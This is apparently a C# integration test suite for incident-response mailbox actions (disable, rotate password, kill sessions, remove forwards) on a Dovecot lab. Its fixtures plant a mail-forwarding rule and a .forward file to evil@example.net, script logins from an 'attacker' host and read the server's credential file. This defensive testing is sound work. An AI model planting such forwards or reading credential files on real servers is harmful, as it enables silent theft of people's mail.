using IncidentOps.Core.Runbooks;

namespace IncidentOps.Lab.Actions;

public sealed class MailboxTests(RaisedLab lab)
{
    private const string Files = "cat /etc/dovecot/deny-users /etc/dovecot/users && stat -c '%n %U %G %a' /etc/dovecot/deny-users /etc/dovecot/users";
    private const string NewPassword = "correct horse 'battery' $taple";
    private readonly MailTraffic _mail = new(lab);

    [Theory]
    [InlineData("alice@lab.test")]
    [InlineData("carol@lab.test")]      // her password is in LDAP
    public async Task A_disabled_account_cannot_sign_in_anywhere_until_it_is_enabled(string account)
    {
        lab.Need();
        var files = await lab.Read("mx1", Files);
        var password = MailTraffic.FirstPassword(account);
        Assert.True(await _mail.SignsIn(account, password));
        var disable = Disable(account);
        await disable.ApplyTwiceAndUndo();
        Assert.Equal(files, await lab.Read("mx1", Files));

        // Somebody signs in all the while: nothing from before may stay in the server's cache of logins.
        using var applied = new CancellationTokenSource();
        var knocking = Task.Run(async () =>
        {
            while (!applied.IsCancellationRequested)
            {
                await _mail.SignsIn(account, password);
            }
        }, TestContext.Current.CancellationToken);
        await disable.Expect(ProcedureResult.Applied, disable.Apply());
        await applied.CancelAsync();
        await knocking;
        Assert.False(await _mail.SignsIn(account, password));
        Assert.NotNull(await _mail.Submit(account, "dave@lab.test"));
        Assert.True(await _mail.SignsIn("bob@lab.test", MailTraffic.FirstPassword("bob")));
        var enable = new ActionStep(lab, "mailbox.enable", step: "enable").With("account", account);
        await enable.Expect(ProcedureResult.Applied, enable.Check());
        await enable.Expect(ProcedureResult.Applied, enable.Apply());
        await enable.Expect(ProcedureResult.Applied, enable.Verify());
        Assert.True(await _mail.SignsIn(account, password));
        Assert.Equal(files, await lab.Read("mx1", Files));
    }

    [Fact]
    public async Task Enabling_refuses_while_another_incident_or_an_administrator_keeps_the_account_disabled()
    {
        lab.Need();
        var (first, second) = (Disable("alice@lab.test"), Disable("alice@lab.test", "incident-2"));
        await first.Expect(ProcedureResult.Applied, first.Apply());
        await second.Expect(ProcedureResult.Applied, second.Apply());
        var enable = new ActionStep(lab, "mailbox.enable", step: "enable").With("account", "alice@lab.test");
        await enable.Expect(ProcedureResult.Refused, enable.Check());
        await enable.Expect(ProcedureResult.Refused, enable.Apply());
        await first.Expect(ProcedureResult.Applied, first.Undo());
        await second.Expect(ProcedureResult.Applied, second.Verify());
        Assert.False(await _mail.SignsIn("alice@lab.test", MailTraffic.FirstPassword("alice")));
        await second.Expect(ProcedureResult.Applied, second.Undo());

        await lab.Read("mx1", "echo dave@lab.test: >>/etc/dovecot/deny-users");
        enable = new ActionStep(lab, "mailbox.enable", step: "enable").With("account", "dave@lab.test");
        await enable.Expect(ProcedureResult.Refused, enable.Apply());
        var disable = Disable("dave@lab.test");
        await disable.Expect(ProcedureResult.Applied, disable.Apply());
        await disable.Expect(ProcedureResult.Applied, disable.Undo());
        Assert.Equal("dave@lab.test:", await lab.Read("mx1", "cat /etc/dovecot/deny-users"));
        await lab.Read("mx1", ": >/etc/dovecot/deny-users && doveadm auth cache flush");
    }

    [Fact]
    public async Task A_rotated_password_works_and_the_former_one_does_not()
    {
        lab.Need();
        var files = await lab.Read("mx1", Files);
        var rotate = Rotate("alice@lab.test");
        await rotate.Expect(ProcedureResult.Applied, rotate.Check());
        await rotate.Expect(ProcedureResult.NotApplied, rotate.Verify());
        await rotate.ApplyTwice();
        Assert.False(await _mail.SignsIn("alice@lab.test", MailTraffic.FirstPassword("alice")));
        Assert.True(await _mail.SignsIn("alice@lab.test", NewPassword.Replace("'", "'\\''", StringComparison.Ordinal)));
        Assert.True(await _mail.SignsIn("bob@lab.test", MailTraffic.FirstPassword("bob")));

        await rotate.Expect(ProcedureResult.Applied, rotate.Undo());
        await rotate.Expect(ProcedureResult.NotApplied, rotate.Verify());
        Assert.True(await _mail.SignsIn("alice@lab.test", MailTraffic.FirstPassword("alice")));
        Assert.Equal(files, await lab.Read("mx1", Files));
        Assert.Equal(UndoOffer.OnFailure, ActionLibrary.Find("mailbox.rotate-password").Undo!.Offer);
    }

    [Fact]
    public async Task Neither_password_nor_hash_shows_in_the_process_list()
    {
        lab.Need();
        var watch = lab.Inside("mx1",
            "touch /tmp/watching; while [ -e /tmp/watching ]; do cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '; done >/tmp/seen; true");
        await RaisedLab.Eventually(async () => (await lab.Inside("mx1", "test -s /tmp/seen")).ExitCode == 0, "the process list is watched");
        var rotate = Rotate("alice@lab.test");
        await rotate.ApplyTwice();
        await lab.Read("mx1", "rm /tmp/watching");
        await watch;
        Assert.Equal("0", await lab.Read("mx1", "grep -acF '$2y$' /tmp/seen || true"));
        Assert.Equal("0", await lab.Read("mx1", "grep -acF 'correct horse' /tmp/seen || true"));
        Assert.NotEqual("0", await lab.Read("mx1", "grep -acF 'doveadm pw' /tmp/seen || true"));
        await rotate.Expect(ProcedureResult.Applied, rotate.Undo());
    }

    [Fact]
    public async Task Rotating_does_not_reopen_a_disabled_account()
    {
        lab.Need();
        var disable = Disable("alice@lab.test");
        await disable.Expect(ProcedureResult.Applied, disable.Apply());
        var rotate = Rotate("alice@lab.test");
        await rotate.ApplyTwice();
        await disable.Expect(ProcedureResult.Applied, disable.Verify());
        Assert.False(await _mail.SignsIn("alice@lab.test", NewPassword.Replace("'", "'\\''", StringComparison.Ordinal)));
        await rotate.Expect(ProcedureResult.Applied, rotate.Undo());
        await disable.Expect(ProcedureResult.Applied, disable.Verify());
        await disable.Expect(ProcedureResult.Applied, disable.Undo());
    }

    [Theory]
    [InlineData("alice@lab.test", "too-short")]
    [InlineData("carol@lab.test", NewPassword)]         // not in the password file
    [InlineData("nobody@lab.test", NewPassword)]
    public async Task A_rotation_that_cannot_work_is_refused_before_anything_changes(string account, string password)
    {
        lab.Need();
        var files = await lab.Read("mx1", Files);
        var rotate = new ActionStep(lab, "mailbox.rotate-password", step: "refused").With("account", account).With("new-password", password);
        await rotate.Expect(ProcedureResult.Refused, rotate.Apply());
        Assert.Equal(files, await lab.Read("mx1", Files));
    }

    [Fact]
    public async Task Killing_sessions_closes_every_door_of_the_account_and_spares_others_mailboxes()
    {
        lab.Need();
        var server = lab.Address("mx1");
        var sessions = lab.Inside("attacker", $"""
            python3 - <<'PYTHON'
            import imaplib, os, smtplib, ssl, time
            context = ssl._create_unverified_context()
            def imap(user):
                session = imaplib.IMAP4_SSL("{server}", 993, ssl_context=context)
                session.login(user + "@lab.test", user + "-Start-pw-2026")
                return session
            alice, bob = imap("alice"), imap("bob")
            smtp = smtplib.SMTP("{server}", 587); smtp.starttls(context=context); smtp.login("alice@lab.test", "alice-Start-pw-2026")
            open("/tmp/signed-in", "w").close()
            while not os.path.exists("/tmp/killed"): time.sleep(0.1)
            for name, ask in (("alice imap", alice.noop), ("alice smtp", smtp.noop), ("bob imap", bob.noop)):
                try: print(name, "open" if ask()[0] in ("OK", 250) else "cut")
                except Exception: print(name, "cut")
            os.remove("/tmp/killed"); os.remove("/tmp/signed-in")
            PYTHON
            """);
        await RaisedLab.Eventually(async () => (await lab.Inside("attacker", "test -e /tmp/signed-in")).ExitCode == 0, "the sessions stand");
        var kill = new ActionStep(lab, "mailbox.kill-sessions").With("account", "alice@lab.test");
        await kill.Expect(ProcedureResult.Applied, kill.Check());
        Assert.Contains("alice@lab.test", kill.Output, StringComparison.Ordinal);
        await kill.Expect(ProcedureResult.NotApplied, kill.Verify());
        await kill.ApplyTwice();
        await lab.Read("attacker", "touch /tmp/killed");
        Assert.Equal("alice imap cut\nalice smtp cut\nbob imap open", (await sessions).Output.Trim());

        var logins = new ActionStep(lab, "mailbox.find-logins").With("account", "alice@lab.test");
        await logins.Expect(ProcedureResult.Applied, logins.Apply());
        Assert.Contains(lab.Address("attacker"), logins.Reported("addresses"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Forwards_are_found_removed_and_kept()
    {
        lab.Need();
        await lab.Read("mx1", """
            mkdir -p /var/vmail/lab.test/alice/sieve && cd /var/vmail/lab.test/alice
            printf 'redirect :copy "evil@example.net";\nfileinto "Archive";\n' >'sieve/my rules.sieve'
            printf 'keep;\n' >sieve/harmless.sieve
            ln -s 'sieve/my rules.sieve' .dovecot.sieve
            echo evil@example.net >.forward
            chown -Rh vmail:vmail .
            """);
        const string listing = "cd /var/vmail/lab.test/alice && ls -ln .dovecot.sieve .forward sieve/* | grep -v ^total && cat .forward sieve/*.sieve";
        var before = await lab.Read("mx1", listing);
        var find = new ActionStep(lab, "mailbox.find-forwards").With("account", "alice@lab.test");
        await find.Expect(ProcedureResult.Applied, find.Apply());
        Assert.Equal(("2", "1"), (find.Reported("redirects"), find.Reported("rules")));
        Assert.Contains("my rules.sieve (active)", find.Output, StringComparison.Ordinal);

        var remove = new ActionStep(lab, "mailbox.remove-forwards", step: "remove").With("account", "alice@lab.test");
        await remove.Expect(ProcedureResult.Applied, remove.Check());
        await remove.Expect(ProcedureResult.NotApplied, remove.Verify());
        await remove.ApplyTwice();
        await find.Expect(ProcedureResult.Applied, find.Apply());
        Assert.Equal(("0", "0"), (find.Reported("redirects"), find.Reported("rules")));
        Assert.Equal("keep;", await lab.Read("mx1", "cat /var/vmail/lab.test/alice/sieve/*.sieve"));

        await remove.Expect(ProcedureResult.Applied, remove.Undo());
        await remove.Expect(ProcedureResult.NotApplied, remove.Verify());
        Assert.Equal(before, await lab.Read("mx1", listing));
        Assert.Equal(UndoOffer.OnFailure, ActionLibrary.Find("mailbox.remove-forwards").Undo!.Offer);
        await lab.Read("mx1", "cd /var/vmail/lab.test/alice && rm -rf .dovecot.sieve .forward sieve");
    }

    private ActionStep Disable(string account, string incident = "incident-1") =>
        new ActionStep(lab, "mailbox.disable", incident, "disable").With("account", account);

    private ActionStep Rotate(string account) =>
        new ActionStep(lab, "mailbox.rotate-password", step: "rotate").With("account", account).With("new-password", NewPassword);
}
